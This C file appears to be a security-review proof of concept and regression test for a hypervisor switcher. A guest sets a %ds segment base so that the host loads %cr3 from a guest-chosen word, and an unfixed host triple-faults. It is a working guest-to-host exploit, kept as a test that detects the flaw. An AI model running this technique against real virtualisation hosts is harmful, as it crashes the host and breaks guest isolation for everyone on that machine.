/*
 * tests/boot/attack_ds_base.c: security review proof of concept.
 *
 * The switcher's way home (host/arch/switcher.S, back_to_host) reads the
 * host's %cr3 from the CPU page and runs lgdt/lidt on host_gdtr/host_idtr
 * with plain memory operands, i.e. through %ds, before it reloads %ds.
 * An interrupt gate into ring 0 does not change %ds, so at that point %ds
 * is still whatever the guest had loaded. A guest data segment with a
 * non-zero base (any guest-owned GDT entry, e.g. a TLS entry, which Linux
 * lets an unprivileged process set with set_thread_area()) shifts those
 * reads: the host then loads %cr3 from memory the guest chose.
 *
 * We build a DPL 1 data segment whose base moves the host's read of
 * SWITCHER_CPU + CPU_PAGE_HOST_CR3 onto `fake_cr3`, a word of ours holding
 * 0, load it into %ds and make a hypercall that exits to the host. A host
 * that reads its %cr3 through its own segment (%ss, or %ds reloaded first)
 * is not affected and we print PASS; the host as it is loads %cr3 = 0 and
 * the machine triple-faults (QEMU exits 0 with -no-reboot, no PASS).
 */
#include <stdio.h>

#include "../../kernel/app.h"
#include "../../kernel/x86.h"
#include "boot_check.h"

/* host/arch/switcher.h: SWITCHER_CPU + CPU_PAGE_HOST_CR3 (two code pages,
 * then the register page, then the CPU page). Copied: a guest may not
 * include host headers. */
#define HOST_CR3_SLOT (LGUEST_SWITCHER_ADDR + 3 * 4096 + 2452)

static struct x86_desc tls[GDT_ENTRY_TLS_ENTRIES];
static volatile uint32_t fake_cr3 __attribute__((aligned(4096)));

void app_main(void)
{
	uint32_t real_cr3 = *(volatile uint32_t *)HOST_CR3_SLOT;
	uint32_t base = (uint32_t)(uintptr_t)&fake_cr3 - HOST_CR3_SLOT;
	uint32_t sel = GDT_ENTRY_TLS_MIN * 8 + 1;	/* RPL 1 */
	uint32_t call = LHCALL_TS;			/* not the null call */

	printf("TEST attack_ds_base START\n");
	printf("host cr3 as the CPU page shows it: %#lx (readable at ring 1)\n",
	       (unsigned long)real_cr3);
	fake_cr3 = 0;	/* mapped and present in the shadow from here on */
	tls[0] = x86_data_segment(base, 0xFFFFF, 1);
	hcall(LHCALL_LOAD_TLS, gpa_val(virt_to_gpa(tls)), 0, 0);
	printf("%%ds base %#lx puts the host's cr3 read on our word (= 0); "
	       "trapping with it\n", (unsigned long)base);
	fflush(stdout);
	/* %ds only for the trap itself: all our own data goes through it. */
	__asm__ volatile("movl %1, %%ds\n\t"
			 "int $" X86_STR(LGUEST_TRAP_ENTRY) "\n\t"
			 "movl %2, %%ds\n\t"
			 : "+a"(call)
			 : "r"(sel), "r"((uint32_t)LGUEST_KERNEL_DS),
			   "d"(0), "b"(0), "c"(0)
			 : "memory");
	printf("the host came back with its own cr3\n");
	test_finish("attack_ds_base");
}
